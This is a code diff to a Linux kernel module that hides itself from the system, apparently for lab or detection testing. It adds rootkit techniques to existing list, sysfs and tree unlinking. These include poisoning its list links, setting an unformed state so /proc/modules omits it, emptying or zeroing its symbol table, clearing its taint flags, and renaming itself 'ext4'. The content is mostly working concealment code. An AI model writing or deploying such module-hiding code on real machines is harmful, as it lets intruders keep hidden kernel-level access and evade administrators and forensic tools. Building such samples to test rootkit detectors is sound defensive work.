@@ -7,6 +7,13 @@
  *	mod_tree	taken out of the tree that finds a module by an address
  *	all		the three above
  *	blank		its name is overwritten with zeros
+ *	self		after "list": its links lead to itself, or, with "poison", nowhere
+ *	poison
+ *	unformed	its state says that it is not complete: /proc/modules leaves it out
+ *	symbols		its symbol table has no entries
+ *	wipe		... or zeros in all of them
+ *	taint		its taints are taken back
+ *	rename		it takes the name of another
  *
  * A module that is off the list or has no name cannot be unloaded. Writing 1 to its parameter
  * "restore" puts it back, as long as sysfs still shows that parameter.
@@ -20,14 +27,19 @@
 
 static char *how = "all";
 module_param(how, charp, 0444);
-MODULE_PARM_DESC(how, "list,sysfs,mod_tree,all,blank");
+MODULE_PARM_DESC(how, "list,sysfs,mod_tree,all,blank,self,poison,unformed,symbols,wipe,taint,rename");
 
 static struct mutex *mutex;
 static struct latch_tree_root *tree;
 static struct list_head *head;
 static struct module *(*find_module_at)(unsigned long address);
 static char name[MODULE_NAME_LEN];
-static bool off_list, off_tree, blanked;
+static bool off_list, off_tree, blanked, forged;
+
+/* What was forged, as it was. */
+static unsigned long taints;
+static unsigned int symbols;
+static Elf_Sym *saved;
 
 /* 6.4 split a module's memory by type, each with its own node (ac3b43283923). */
 #if LINUX_VERSION_CODE >= KERNEL_VERSION(6, 4, 0)
@@ -68,13 +80,65 @@ static void change_tree(bool in)
 	off_tree = !in;
 }
 
+static bool wanted(const char *what);
+
+static int save(void)
+{
+	size_t bytes = THIS_MODULE->kallsyms->num_symtab * sizeof(*saved);
+
+	taints = THIS_MODULE->taints;
+	symbols = THIS_MODULE->kallsyms->num_symtab;
+	saved = vmalloc(bytes);
+	if (saved)
+		memcpy(saved, THIS_MODULE->kallsyms->symtab, bytes);
+	return saved ? 0 : -ENOMEM;
+}
+
+/* What becomes read-only, and gets its final symbol table, once its init function is over. */
+static void forge(bool yes)
+{
+	struct mod_kallsyms *kallsyms = THIS_MODULE->kallsyms;
+
+	if (yes == forged)
+		return;
+	if (wanted("unformed"))
+		THIS_MODULE->state = yes ? MODULE_STATE_UNFORMED : MODULE_STATE_LIVE;
+	if (wanted("symbols"))
+		kallsyms->num_symtab = yes ? 0 : symbols;
+	if (wanted("wipe") && yes)
+		memset(kallsyms->symtab, 0, symbols * sizeof(*saved));
+	if (wanted("wipe") && !yes)
+		memcpy(kallsyms->symtab, saved, symbols * sizeof(*saved));
+	if (wanted("taint"))
+		THIS_MODULE->taints = yes ? 0 : taints;
+	if (wanted("rename"))
+		strscpy(THIS_MODULE->name, yes ? "ext4" : name, sizeof(name));
+	forged = yes;
+}
+
+static int forge_set(const char *value, const struct kernel_param *param)
+{
+	bool yes;
+	int r = kstrtobool(value, &yes);
+
+	if (!r && mutex && yes && !saved)
+		r = save();
+	if (!r && mutex)
+		forge(yes);
+	return r;
+}
+
+static const struct kernel_param_ops forge_ops = { .set = forge_set };
+module_param_cb(forge, &forge_ops, NULL, 0200);
+MODULE_PARM_DESC(forge, "written once it lives: 1 does, 0 undoes what is no list");
+
 static void restore(void)
 {
 	mutex_lock(mutex);
 	if (off_tree)
 		change_tree(true);
 	if (off_list)
-		list_add_rcu(&THIS_MODULE->list, head);
+		list_add_rcu(&THIS_MODULE->list, head);	/* whatever its links led to */
 	if (blanked)
 		memcpy(THIS_MODULE->name, name, sizeof(name));
 	off_list = blanked = false;
@@ -132,7 +196,7 @@ static int __init hide_init(void)
 	find_module_at = lab_symbol("__module_address");
 	if (!mutex || !tree || !head || !find_module_at)
 		return -ENOENT;
-	if (!all && !wanted("list") && !wanted("sysfs") && !wanted("mod_tree") && !wanted("blank"))
+	if (!*how)
 		return -EINVAL;
 
 	memcpy(name, THIS_MODULE->name, sizeof(name));
@@ -143,6 +207,10 @@ static int __init hide_init(void)
 		change_tree(false);
 	if (all || wanted("list")) {
 		list_del_rcu(&THIS_MODULE->list);
+		if (wanted("self"))
+			INIT_LIST_HEAD(&THIS_MODULE->list);
+		if (wanted("poison"))
+			THIS_MODULE->list.next = LIST_POISON1;
 		off_list = true;
 	}
 	if (wanted("blank")) {
@@ -157,6 +225,7 @@ static int __init hide_init(void)
 static void __exit hide_exit(void)
 {
 	restore();
+	vfree(saved);
 }
 
 module_init(hide_init);
